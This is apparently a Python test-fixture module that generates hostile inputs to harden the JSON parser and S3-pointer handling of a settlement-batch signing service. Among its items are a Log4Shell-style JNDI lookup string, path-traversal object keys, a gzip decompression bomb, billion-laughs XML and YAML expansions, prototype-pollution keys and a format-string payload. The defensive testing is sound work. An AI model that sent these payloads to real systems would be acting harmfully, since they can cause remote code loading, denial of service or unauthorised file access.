"""The hostile messages that people thought of: each one breaks a parser somewhere, or has."""

import gzip
import json
from collections.abc import Iterator
from typing import Any, Final

from tests.hostile.hostile import Hostile, pointing

MIB: Final = 1 << 20
_DEEP: Final = 200_000


def good(number: int = 0, count: int = 2, **changes: Any) -> dict[str, Any]:
    """Give a batch that can be signed, with `changes`."""
    transactions = [
        {"transaction_id": f"HOSTILE-{number}-{index}", "message": {"amount": "1250.00", "n": index, "x": [1.5, None]}}
        for index in range(count)
    ]
    batch = {"schema": "settlement-batch/1", "batch_id": f"HOSTILE-{number}", "key": "settlement"}
    return {**batch, "transactions": transactions, **changes}


def with_message(text: str, number: int = 0) -> bytes:
    """Give a batch of one whose message is this JSON text."""
    return json.dumps(good(number, 1)).replace('{"amount": "1250.00", "n": 0, "x": [1.5, null]}', text).encode()


def small() -> Iterator[Hostile]:
    """Give every message that is at most some thousands of bytes."""
    for kind, contents in _TEXTS.items():
        for content in contents:
            yield Hostile(kind, content)
    for index, text in enumerate(_MESSAGES):
        yield Hostile("messages", with_message(text, index))
    for index, change in enumerate(_CHANGES):
        yield Hostile("wrong types and schemas", json.dumps(good(index, **change)).encode())
    whole = json.dumps(good()).encode()
    for length in range(0, len(whole), 7):
        yield Hostile("truncated", whole[:length])
    yield from pointers()


def pointers() -> Iterator[Hostile]:
    """Give pointers that lead nowhere, elsewhere, or say what is not so."""
    body = json.dumps(good(1)).encode()
    for key in ("secret/x", "../inbound/x", "inbound/../secret", "inbound/./x", "inbound", "", "inbound/" + "k" * 2000):
        yield pointing("pointers", "{bucket}", key, "100")
    for bucket in ("another-bucket", "arn:aws:s3:us-east-1:1:accesspoint/x", "..", "BUCKET", "{bucket}/inbound"):
        yield pointing("pointers", bucket, "inbound/x", "100")
    for size in ("0", "-1", "1e3", "1.5", "99999999999999", "NaN", " 7", str(1 << 40), "\u0661"):
        yield pointing("pointers", "{bucket}", "inbound/x", size, body)
    yield pointing("pointers", "{bucket}", "inbound/absent", "100")
    yield pointing("pointers", "{bucket}", "inbound/short", str(len(body) - 1), body)
    yield pointing("pointers", "{bucket}", "inbound/long", str(len(body) + 1), body)
    for content in (b"{}", b"[]", b'["", {}]', b'["x",{"s3BucketName":1,"s3Key":2}]', b"[" * 5000, body):
        yield Hostile("pointers", content, "100")
    bomb = gzip.compress(b"[" * (64 * MIB))
    yield pointing("compressed", "{bucket}", "inbound/bomb", str(len(bomb)), bomb)


def large() -> Iterator[Hostile]:
    """Give messages of megabytes."""
    for name, content in {
        "one string": b'"' + b"x" * (10 * MIB) + b'"',
        "one escaped string": b'"' + b"\\u0041" * (10 * MIB // 6) + b'"',
        "a string in a message": with_message('{"x": "' + "y" * (10 * MIB) + '"}', 9001),
        "an unknown member": json.dumps(good(9002, surplus="z" * (10 * MIB))).encode(),
        "an id": json.dumps(good(9003, batch_id="i" * (10 * MIB))).encode(),
        "one number": b"9" * (10 * MIB),
        "one fraction": b"0." + b"1" * (10 * MIB),
        "one exponent": b"1e" + b"1" * (10 * MIB),
        "open brackets": b"[" * (10 * MIB),
        "open objects": b'{"a":' * (2 * MIB),
        "spaces": b" " * (10 * MIB),
        "noughts": bytes(10 * MIB),
        "empty arrays": b"[" + b"[]," * (3 * MIB) + b"[]]",
        "empty objects": b"[" + b"{}," * (3 * MIB) + b"{}]",
        "members": b"{" + b",".join(b'"%d":0' % number for number in range(MIB)) + b"}",
        "the same member": b"{" + b",".join([b'"a":0'] * MIB) + b"}",
        "small transactions": json.dumps(good(9004, transactions=[{}] * (3 * MIB))).encode(),
        "too many transactions": json.dumps(good(9005, 10_001)).encode(),
        "the same transaction": json.dumps(good(9006, transactions=good(9006, 1)["transactions"] * 10_000)).encode(),
        "10,000 bad transactions": json.dumps(good(9007, transactions=[1] * 10_000)).encode(),
        "lone surrogates": with_message('{"x": "' + "\\ud800" * MIB + '"}', 9008),
        "beyond max_bytes": b" " * (17 * MIB),
    }.items():
        yield Hostile(f"large: {name}", content)


_TEXTS: Final[dict[str, tuple[bytes, ...]]] = {
    "no JSON": (
        b"",
        b" ",
        b"\x00",
        b"null",
        b"true",
        b"0",
        b'""',
        b"[]",
        b"{}",
        b"[{}]",
        b"nul",
        b"'a'",
        b"{a:1}",
        b"[1,]",
    ),
    "other encodings": (
        b"\xff\xfe",
        b"\xef\xbb\xbf{}",
        json.dumps(good()).encode("utf-16"),
        json.dumps(good()).encode("utf-32"),
        b'{"\xc3\x28": 1}',
        b'{"\xed\xa0\x80": 1}',
        b"\xc0\x80",
        b"\x1f\x8b\x08\x00",
    ),
    "deep": (
        b"[" * 101 + b"]" * 101,
        b"[" * _DEEP,
        b"[" * _DEEP + b"]" * _DEEP,
        b'{"a":' * _DEEP,
        b'{"a":' * 5000 + b"1" + b"}" * 5000,
        b"[{}," * 3000,
        with_message('{"x":' + "[" * 94 + "]" * 94 + "}", 9100),
        with_message('{"x":' + "[" * 99 + "]" * 99 + "}", 9101),
    ),
    "duplicate keys": (
        b'{"schema":"settlement-batch/1","schema":"settlement-batch/1"}',
        json.dumps(good(9102)).encode().replace(b'"key"', b'"batch_id":"A","key"'),
        with_message('{"a":1,"\\u0061":2}', 9103),
        with_message('{"a":1,"A":2,"a ":3}', 9104),
    ),
    "billion laughs": (
        b'<?xml version="1.0"?><!DOCTYPE l [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;">]><l>&b;</l>',
        b'a: &a ["x","x"]\nb: &b [*a,*a,*a]\nc: [*b,*b,*b]',
        with_message('{"$ref":"#/transactions/0/message"}', 9105),
        with_message('{"a":"&a;","&a;":"*b","<<":{"__proto__":{"constructor":1}}}', 9106),
        json.dumps(good(9107, batch_id="${jndi:ldap://x/a}")).encode(),
        json.dumps(good(9108, batch_id="%s%n{0.__class__}")).encode(),
    ),
}
_NUMBERS: Final = (
    *("9007199254740992", "-9007199254740992", "9" * 400, "-" + "9" * 5000, "1e400", "-1e400", "1e-400", "5e-324"),
    *(
        "1E" + "9" * 5000,
        "1e-" + "9" * 5000,
        "0." + "1" * 5000,
        "00",
        "01",
        "+1",
        "1.",
        ".5",
        "0x10",
        "-0",
        "-0.0",
        "1_0",
    ),
    *(
        "NaN",
        "Infinity",
        "-Infinity",
        "1e21",
        "1e22",
        "123456789012345678e-2",
        "\u0661",
        "9007199254740993.0",
        "1" + "0" * 308,
    ),
)
_STRINGS: Final = (
    *(
        '"\\ud800"',
        '"\\udfff\\ud800"',
        '"\\ud83d\\ude00"',
        '"\\u0000"',
        '"\\uffff"',
        '"\\x41"',
        '"\\u12"',
        '"\u0007"',
        '"\\',
    ),
    *(
        '"\u202e"',
        '"\U0010ffff"',
        '"e\u0301"',
        '"\ufeff"',
        '"\\/\\b\\f"',
        '"' + "\\\\" * 3000 + '"',
        '"' + "\u00e9" * 3000 + '"',
    ),
)
_MESSAGES: Final = (
    *(f'{{"x": {text}}}' for text in (*_NUMBERS, *_STRINGS)),
    *(f"{{{text}: 1}}" for text in _STRINGS),
    *('"text"', "1", "null", "[]", "{}", "[[]]", '{"": ""}', "[1,2,3"),
)
_WRONG: Final[tuple[Any, ...]] = (
    None,
    True,
    False,
    0,
    -1,
    1.5,
    "",
    " ",
    "x" * 129,
    "é",
    "-",
    "a\n",
    "a\x00",
    [],
    {},
    [[]],
    [None],
    {"a": {}},
)
_CHANGES: Final[tuple[dict[str, Any], ...]] = (
    *(
        {name: wrong}
        for name in ("schema", "batch_id", "key", "algorithm", "transactions", "surplus", "")
        for wrong in _WRONG
    ),
    *({"schema": f"settlement-batch/{version}"} for version in ("0", "2", "1.0", "01", "1 ", "\u0661", "-1", "1/1")),
    *({"schema": schema} for schema in ("signed-settlement-batch/1", "SETTLEMENT-BATCH/1", "settlement-batch")),
    *({"key": key} for key in ("payout", "Settlement", "settlement ", "../settlement", "*")),
    *(
        {"algorithm": name}
        for name in ("RSASSA_PSS_SHA_256", "rsassa_pss_sha_256", "NONE", "HS256", "RSASSA_PKCS1_V1_5_SHA_1")
    ),
    *({"transactions": [wrong]} for wrong in _WRONG),
    *({"transactions": [{"transaction_id": wrong, "message": {}}]} for wrong in _WRONG),
    *({"transactions": [{"transaction_id": "T", "message": wrong}]} for wrong in _WRONG),
    *(
        {"transactions": [{"transaction_id": "T", "payload": wrong}]}
        for wrong in (*_WRONG, "QQ", "QR==", "QQ==\n", "_-8=")
    ),
    *(
        {"transactions": [{"transaction_id": "T", **both}]}
        for both in ({}, {"message": {}, "payload": "QQ=="}, {"digest": "A" * 44})
    ),
    {"transactions": good()["transactions"] * 2},
)
